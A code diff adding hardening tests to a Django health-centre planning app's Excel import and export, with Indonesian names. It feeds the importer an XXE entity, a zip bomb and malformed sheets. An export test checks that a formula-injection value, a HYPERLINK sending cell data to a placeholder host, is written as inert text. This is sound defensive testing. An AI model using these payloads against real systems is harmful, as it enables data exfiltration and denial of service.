@@ -15,6 +15,8 @@ from perencanaan.models import KegiatanRUK
 from perencanaan.services.ruk import TEMPLAT_RUK, ImporGagal, kegiatan_ruk_impor, ruk_jalankan
 from puskesmas.models import TugasLatar
 
+from ..berkas_xlsx import DTD_XXE, bom_sheet, sheet_xml
+from ..berkas_xlsx import xlsx as berkas_tangan
 from .factories_ruk import KegiatanRUKFactory, RUKFactory, klaster
 
 JUDUL = [k.judul for k in TEMPLAT_RUK.kolom]
@@ -224,3 +226,63 @@ def test_only_drafters_may_upload(dunia, masuk, ruk):
     assert masuk(dunia.staf_a).post(url, {"berkas": _xlsx([_baris()])}).status_code == 403
     assert masuk(dunia.staf_b).post(url, {"berkas": _xlsx([_baris()])}).status_code == 404
     assert not TugasLatar.objects.exists()
+
+
+# --- Hardening: hostile files end the job with a message; the upload is deleted ----------
+
+RUSAK = "Berkas Excel rusak atau tidak aman"
+
+
+def _tangan(sheet, **kw) -> SimpleUploadedFile:
+    return SimpleUploadedFile("ruk.xlsx", berkas_tangan(sheet, nama_sheet="RUK", **kw))
+
+
+@pytest.mark.parametrize(
+    "berkas",
+    [
+        lambda: _tangan(DTD_XXE + sheet_xml([(1, ["&xxe;"])])),
+        lambda: _tangan(sheet_xml([(1, JUDUL), (2, _baris())])[:-40]),
+        lambda: _tangan(bom_sheet(100 * 1024 * 1024, judul=JUDUL)),
+        lambda: _tangan(sheet_xml([(1, JUDUL), (2, _baris()), (10**10, _baris())])),
+    ],
+    ids=["xxe", "xml-terpotong", "bom-zip", "celah-baris"],
+)
+def test_a_hostile_file_fails_the_job_with_a_message(dunia, unggah, ruk, berkas):
+    r = unggah(dunia.ktu_a, berkas())
+    assert r.status_code == 302
+    tugas = _tugas()
+    assert (tugas.status, tugas.progres) == (TugasLatar.Status.GAGAL, 100)
+    assert tugas.pesan == "Berkas berisi 1 kesalahan. Tidak ada data yang disimpan."
+    assert tugas.galat[0]["pesan"].startswith(RUSAK)
+    assert not KegiatanRUK.objects.exists()
+
+
+def test_25000_rows_without_a_dimension_stop_at_the_limit(dunia, unggah, ruk):
+    sheet = sheet_xml([(1, JUDUL)] + [(n, _baris()) for n in range(2, 25_002)])
+    unggah(dunia.ktu_a, _tangan(sheet))
+    tugas = _tugas()
+    assert tugas.status == TugasLatar.Status.GAGAL
+    assert tugas.galat[0]["pesan"].startswith("Terlalu banyak baris data (lebih dari 20000)")
+    assert not KegiatanRUK.objects.exists()
+
+
+@pytest.mark.parametrize("baik", [True, False])
+def test_the_upload_is_deleted_when_the_import_ends(dunia, unggah, ruk, settings, tmp_path, baik):
+    settings.MEDIA_ROOT = tmp_path
+    unggah(dunia.ktu_a, _xlsx([_baris(anggaran=1000 if baik else "banyak")]))
+    tugas = _tugas()
+    assert tugas.status == (TugasLatar.Status.BERHASIL if baik else TugasLatar.Status.GAGAL)
+    assert not tugas.berkas_masuk
+    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
+
+
+def test_the_export_writes_a_formula_like_text_as_text(dunia, masuk, ruk):
+    jahat = '=HYPERLINK("http://contoh.invalid/?d="&B3,"Klik")'
+    KegiatanRUKFactory(ruk=ruk, klaster=klaster(2), upaya=jahat, rincian="@SUM(A1)")
+    r = masuk(dunia.ktu_a).get(reverse("perencanaan:ruk_xlsx", args=[ruk.pk]))
+    assert r.status_code == 200
+    ws = load_workbook(io.BytesIO(r.content))["RUK"]
+    upaya, rincian, anggaran = ws["B2"], ws["C2"], ws["K2"]
+    assert (upaya.value, upaya.data_type) == (jahat, "s")
+    assert (rincian.value, rincian.data_type) == ("@SUM(A1)", "s")
+    assert anggaran.data_type == "n"
